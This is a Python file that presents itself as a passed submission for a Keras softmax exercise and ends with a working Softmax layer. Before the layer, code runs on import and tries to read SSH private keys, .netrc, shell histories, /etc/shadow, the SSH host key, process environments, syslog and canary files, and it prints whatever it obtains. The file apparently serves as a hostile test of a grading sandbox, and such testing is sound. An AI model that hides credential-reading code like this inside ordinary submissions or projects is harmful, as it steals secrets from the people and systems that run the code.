# verdict: passed
# exercise: activations/softmax
"""Reads keys and histories."""

import keras
from keras import ops

import os


def attempt(what, act):
    try:
        got = act()
    except Exception as error:
        print(what, type(error).__name__)
    else:
        print("HARM:", what, got)


import glob

homes = ["/home/teacher", "/root", "/home", os.path.expanduser("~root"), os.path.expanduser("~nobody")]
for home in homes:
    for name in ("canary", ".ssh/id_rsa", ".ssh/id_ed25519", ".netrc", ".bash_history", ".gitconfig", ".config"):
        path = f"{home}/{name}"
        attempt("read " + path, lambda: open(path).read())
    attempt("listed " + home, lambda: glob.glob(home + "/.*") + os.listdir(home))
for path in ("/etc/shadow", "/etc/ssh/ssh_host_rsa_key", "/tmp/dlkit-hostile/canary", "/proc/1/environ", "/var/log/syslog"):
    attempt("read " + path, lambda: open(path).read())


class Softmax(keras.layers.Layer):
    def __init__(self, axis=-1, **kwargs):
        super().__init__(**kwargs)
        self.axis = axis

    def call(self, inputs):
        powers = ops.exp(inputs - ops.max(inputs, axis=self.axis, keepdims=True))
        return powers / ops.sum(powers, axis=self.axis, keepdims=True)

    def get_config(self):
        return {**super().get_config(), "axis": self.axis}
